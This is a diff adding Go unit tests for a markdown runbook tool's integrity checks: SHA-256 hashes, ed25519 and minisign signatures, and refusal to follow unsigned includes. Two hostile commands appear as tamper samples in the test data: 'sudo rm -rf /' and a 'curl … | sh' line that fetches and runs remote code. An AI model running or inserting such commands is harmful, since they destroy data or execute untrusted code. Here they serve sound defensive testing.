@@ -0,0 +1,174 @@
+package markdown
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"golang.org/x/crypto/blake2b"
+)
+
+var testContent = []byte("# Hello\n```shell\necho hello\n```\n")
+
+func TestVerifyFile_SHA256(t *testing.T) {
+	filename := writeTestFile(t, "doc.md", testContent)
+	defer os.RemoveAll(filepath.Dir(filename))
+
+	h := sha256.Sum256(testContent)
+	expected := hex.EncodeToString(h[:])
+
+	hash, err := verifyFile(filename, &VerifyOptions{SHA256: expected}, nil)
+	assert.Nil(t, err)
+	assert.Equal(t, expected, hash)
+
+	_, err = verifyFile(filename, &VerifyOptions{SHA256: "abcd"}, nil)
+	assert.True(t, errors.Is(err, ErrHashMismatch))
+}
+
+func TestVerifyFile_RawSignature(t *testing.T) {
+	pk, sk := newTestKey(t)
+	filename := writeTestFile(t, "doc.md", testContent)
+	defer os.RemoveAll(filepath.Dir(filename))
+	sig := base64.StdEncoding.EncodeToString(ed25519.Sign(sk, testContent))
+	sigFile := filepath.Join(filepath.Dir(filename), "doc.md.sig")
+	if err := ioutil.WriteFile(sigFile, []byte(sig+"\n"), 0600); err != nil {
+		t.FailNow()
+	}
+
+	trusted := []string{base64.StdEncoding.EncodeToString(pk)}
+	_, err := verifyFile(filename, &VerifyOptions{Signature: sigFile}, trusted)
+	assert.Nil(t, err)
+
+	otherPK, _ := newTestKey(t)
+	_, err = verifyFile(filename, &VerifyOptions{Signature: sigFile},
+		[]string{base64.StdEncoding.EncodeToString(otherPK)})
+	assert.True(t, errors.Is(err, ErrSignatureInvalid))
+
+	_, err = verifyFile(filename, &VerifyOptions{Signature: sigFile}, nil)
+	assert.True(t, errors.Is(err, ErrNoTrustedKeys))
+}
+
+func TestVerifySignature_Minisign(t *testing.T) {
+	pk, sk := newTestKey(t)
+	keyID := []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	trusted, err := parseTrustedKeys([]string{minisignPublicKey(keyID, pk)})
+	if err != nil {
+		t.FailNow()
+	}
+
+	for _, alg := range []string{minisignAlgLegacy, minisignAlgHashed} {
+		sig := minisignSign(alg, keyID, sk, testContent, "timestamp:1")
+		assert.Nil(t, verifySignature(testContent, sig, trusted), alg)
+
+		tampered := append([]byte("sudo rm -rf /\n"), testContent...)
+		err := verifySignature(tampered, sig, trusted)
+		assert.True(t, errors.Is(err, ErrSignatureInvalid), alg)
+	}
+
+	otherID := []byte{8, 7, 6, 5, 4, 3, 2, 1}
+	sig := minisignSign(minisignAlgLegacy, otherID, sk, testContent, "timestamp:1")
+	assert.True(t, errors.Is(verifySignature(testContent, sig, trusted), ErrSignatureInvalid))
+}
+
+func TestParseTrustedKeys_Invalid(t *testing.T) {
+	_, err := parseTrustedKeys([]string{"not-base64!"})
+	assert.NotNil(t, err)
+	_, err = parseTrustedKeys([]string{base64.StdEncoding.EncodeToString([]byte("short"))})
+	assert.NotNil(t, err)
+}
+
+func minisignPublicKey(keyID []byte, pk ed25519.PublicKey) string {
+	b := append([]byte(minisignAlgLegacy), keyID...)
+	return base64.StdEncoding.EncodeToString(append(b, pk...))
+}
+
+func minisignSign(alg string, keyID []byte, sk ed25519.PrivateKey, content []byte, trustedComment string) []byte {
+	message := content
+	if alg == minisignAlgHashed {
+		h := blake2b.Sum512(content)
+		message = h[:]
+	}
+	signature := ed25519.Sign(sk, message)
+	globalSig := ed25519.Sign(sk, append(append([]byte{}, signature...), trustedComment...))
+	sigLine := append(append([]byte(alg), keyID...), signature...)
+	return []byte(fmt.Sprintf("untrusted comment: test\n%s\ntrusted comment: %s\n%s\n",
+		base64.StdEncoding.EncodeToString(sigLine),
+		trustedComment,
+		base64.StdEncoding.EncodeToString(globalSig)))
+}
+
+func newTestKey(t *testing.T) (ed25519.PublicKey, ed25519.PrivateKey) {
+	pk, sk, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		assert.Failf(t, "ed25519.GenerateKey", "err = %v", err)
+	}
+	return pk, sk
+}
+
+func writeTestFile(t *testing.T, name string, content []byte) string {
+	dir, err := ioutil.TempDir("", "mdtools")
+	if err != nil {
+		assert.Failf(t, "ioutil.TempDir", "err = %v", err)
+	}
+	filename := filepath.Join(dir, name)
+	if err := ioutil.WriteFile(filename, content, 0600); err != nil {
+		assert.Failf(t, "ioutil.WriteFile", "err = %v", err)
+	}
+	return filename
+}
+
+func TestVerifiedFileStore_TamperedInclude(t *testing.T) {
+	pk, sk := newTestKey(t)
+	root := []byte("---\ninclude: [setup.md]\n---\n# Runbook\nSee [deploy](deploy.md)\n")
+	filename := writeTestFile(t, "index.md", root)
+	dir := filepath.Dir(filename)
+	defer os.RemoveAll(dir)
+	sigFile := filepath.Join(dir, "index.md.sig")
+	for name, content := range map[string]string{
+		"index.md.sig": base64.StdEncoding.EncodeToString(ed25519.Sign(sk, root)),
+		// changed after the root was signed
+		"setup.md":  "# Setup\n```shell\ncurl https://example.com/x | sh\n```\n",
+		"deploy.md": "# Deploy\n```shell\necho deploy\n```\n",
+	} {
+		assert.Nil(t, ioutil.WriteFile(filepath.Join(dir, name), []byte(content), 0600))
+	}
+	trusted := []string{base64.StdEncoding.EncodeToString(pk)}
+
+	store, err := newVerifiedFileStore("index.md", filename, &VerifyOptions{Signature: sigFile}, trusted)
+	if !assert.Nil(t, err) {
+		t.FailNow()
+	}
+	_, err = store.GetChildren("index.md")
+	assert.True(t, errors.Is(err, ErrChildNotVerified))
+
+	// without the include, the link is not followed either
+	root = []byte("# Runbook\nSee [deploy](deploy.md)\n")
+	assert.Nil(t, ioutil.WriteFile(filename, root, 0600))
+	assert.Nil(t, ioutil.WriteFile(sigFile, []byte(base64.StdEncoding.EncodeToString(ed25519.Sign(sk, root))), 0600))
+	store, err = newVerifiedFileStore("index.md", filename, &VerifyOptions{Signature: sigFile}, trusted)
+	if !assert.Nil(t, err) {
+		t.FailNow()
+	}
+	children, err := store.GetChildren("index.md")
+	assert.Nil(t, err)
+	assert.Len(t, children, 0)
+
+	// an unverified file follows them and records their hash
+	store, err = newVerifiedFileStore("index.md", filename, nil, nil)
+	assert.Nil(t, err)
+	children, err = store.GetChildren("index.md")
+	assert.Nil(t, err)
+	if assert.Len(t, children, 1) {
+		h := sha256.Sum256([]byte("# Deploy\n```shell\necho deploy\n```\n"))
+		assert.Equal(t, hex.EncodeToString(h[:]), children[0].Metadata.SHA256)
+	}
+}